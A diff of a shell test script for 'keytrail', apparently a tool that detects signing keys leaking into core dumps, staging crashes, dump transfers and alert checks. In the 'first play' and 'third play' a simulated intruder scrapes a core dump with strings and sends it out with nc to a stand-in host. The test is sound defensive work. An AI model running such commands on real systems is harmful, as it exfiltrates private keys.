@@ -70,55 +70,84 @@ sign_and_verify p256 sealed
 
 # --- what doctor says, before anything has happened --------------------------------------------------
 step "keytrail doctor --sweep, on signer: what would leak?"
-keytrail doctor --sweep --quiet --json >"$T/doctor" 2>"$T/doctor.err"
+pid_token=$(systemctl show -P MainPID signd@token)
+pid_sealed=$(systemctl show -P MainPID signd@sealed)
+keytrail doctor --sweep --quiet --json --pid "$pid_token" --pid "$pid_sealed" \
+	>"$T/doctor" 2>"$T/doctor.err"
+# found ID PID: severity of such findings.
+found() {
+	jq -r --arg id "$1" --arg pid "$2" '.findings[] |
+		select(.id == $id and (.pid // "" | tostring) == $pid) | .severity' "$T/doctor"
+}
 jq -r '.findings[] | select(.id == "key-in-core" or .id == "dumps-shared") |
-	"\(.severity)  \(.id)  \(.title) (\(.subject // ""))\n      \(.evidence.path): \(.evidence.value)\n      mend: \(.mend)"' \
-	"$T/doctor" | sed 's/^/    /'
-jq -c '.findings[] | {id, severity, subject, evidence}' "$T/doctor" | sed 's/^/# /'
+	"\(.severity)  \(.title)\(if .subject then ": " + .subject else "" end)",
+	"      \(.evidence.path): \(.evidence.value)", "      mend: \(.mend)"' "$T/doctor" | sed 's/^/    /'
+equal "doctor: the key would be in a core of signd@token" "$(found key-in-core "$pid_token")" high
+equal "doctor: in none of signd@sealed" "$(found key-in-core "$pid_sealed")" ""
+equal "doctor: whoever supports this host could read it" "$(found dumps-shared "")" high
 
 # --- the first play ----------------------------------------------------------------------------------
 step "the service crashes"
 crash token
-check "a scan finds the keys in its core" wait_alert "$(dump_with_key "$CORE")"
+core=$CORE
+check "a scan finds the keys in its core" wait_alert "$(dump_with_key "$core")"
 
 step "later: the support team moves the dump, believed to be clean, to debug, and unpacks it there"
-as support@signer "scp -q $CORE debug:/srv/dumps/token.core.zst"
+as support@signer "scp -q $core debug:/srv/dumps/token.core.zst"
+check "that it was read is told on signer" wait_alert '.type == "isolation-breach"'
+# Both hosts have something to search; what comes of it is the second play.
+ask sealed "sign token-2019 hello" >/dev/null 2>&1
 check "debug finds the keys in it" wait_debug_alert "$(dump_with_key /srv/dumps/token.core.zst)"
 as support@debug "zstd -dq /srv/dumps/token.core.zst"
+wait_for is_stored "$pid_sealed" || not_ok "systemd-coredump stores the core of signd@sealed"
 check "and in the unpacked dump" wait_debug_alert "$(dump_with_key /srv/dumps/token.core)"
 
 step "later still: somebody who got hold of dana's account on debug looks at it, and takes it away"
-nc -l 192.0.2.66 4444 >"$T/loot" </dev/null &
+timeout 120 nc -l 192.0.2.66 4444 >"$T/loot" </dev/null &
 loot=$!
 as dana@debug "gdb -batch -nx -c /srv/dumps/token.core -ex bt"
-as dana@debug "strings -n 40 /srv/dumps/token.core"
+as dana@debug "busybox strings -n 40 /srv/dumps/token.core"
 as dana@debug "nc -N 192.0.2.66 4444 </srv/dumps/token.core.zst"
 wait $loot
-equal "it is away" "$(wc -c <"$T/loot")" "$(wc -c <"$CORE")"
-check "debug tells of that" wait_debug_alert '.type == "isolation-breach" and
-	(.subject.exe | startswith("/usr/bin/nc"))'
+equal "it is away" "$(wc -c <"$T/loot")" "$(wc -c <"$core")"
 
 # --- the second play -----------------------------------------------------------------------------------
 step "the same with a service all of whose memory is left out of its dumps (MADV_DONTDUMP)"
-crash sealed
-check "signer has looked into its core" wait_for scanned
-as support@signer "scp -q $CORE debug:/srv/dumps/sealed.core.zst"
+sealed=$(core_of "$pid_sealed")
+check "signer has searched its core" wait_for scanned
+as support@signer "scp -q $sealed debug:/srv/dumps/sealed.core.zst"
 check "so has debug" wait_for on_debug_scanned
-as support@debug "zstd -dq /srv/dumps/sealed.core.zst"
-check "and into the unpacked one" wait_for on_debug_scanned
-as dana@debug "gdb -batch -nx -c /srv/dumps/sealed.core -ex bt"
-as dana@debug "strings -n 40 /srv/dumps/sealed.core"
-check "that it was read is told" wait_debug_alert '.type == "dump-read" and
-	(.subject.exe | endswith("strings")) and .object.path == "/srv/dumps/sealed.core"'
+as dana@debug "busybox strings -n 40 /srv/dumps/sealed.core.zst"
 
 # --- the third play -------------------------------------------------------------------------------------
 step "keytraild is new on debug: all that it knows of the keys is a needle file"
 keytrail needle make --zone signing --label 'tokens, new' -o "$T/p256.needles" $keys/token-p256.pem ||
-	fail "a needle file is made while keytraild watches"
+	not_ok "a needle file is made while keytraild watches"
+on_debug sh -c "systemctl stop keytraild && rm -rf /var/lib/keytrail/*"
 scp -q "${ssh_options[@]}" -o ControlPath=/run/to-debug "$T/p256.needles" \
 	root@debug:/etc/keytrail/signing.needles
-on_debug sh -c 'systemctl stop keytraild && rm -rf /var/lib/keytrail/* && systemctl start keytraild' ||
-	fail "keytraild starts anew"
-as dana@debug "strings -n 40 /srv/dumps/token.core"
+on_debug systemctl start keytraild || fail "keytraild starts anew"
+as dana@debug "busybox strings -n 40 /srv/dumps/token.core"
 check "who read the dump before it was scanned is told of then" wait_debug_alert \
 	'.type == "isolation-breach" and .breach.rotate.type == "ECDSA"'
+
+# --- what came of it ------------------------------------------------------------------------------------
+T=$T KT_BARRIER_DIR=/root/.ssh kt_barrier || not_ok "signer has told all"
+on_debug sh -c 'T=/root; . /kt/tests/lib.sh; kt_barrier' || not_ok "debug has told all"
+on_debug cat /var/log/keytrail/alerts.jsonl >"$T/debug.jsonl"
+for host in signer debug; do
+	log=/var/log/keytrail/alerts.jsonl
+	[ $host = signer ] || log=$T/debug.jsonl
+	told "$log" >"$T/told-$host"
+	step "what $host told"
+	sed 's/^/    /' "$T/told-$host"
+	if diff "$here/expected-$host" "$T/told-$host" >"$T/diff"; then
+		ok "$host: $(wc -l <"$here/expected-$host") alerts, none missing, none extra, in this order"
+	else
+		not_ok "$host: its alerts are those expected" "$(cat "$T/diff")"
+	fi
+done
+step "the trail of the RSA key on debug, and on signer"
+keytrail trail "$RSA"
+on_debug keytrail trail /srv/dumps/token.core
+on_debug touch /run/over
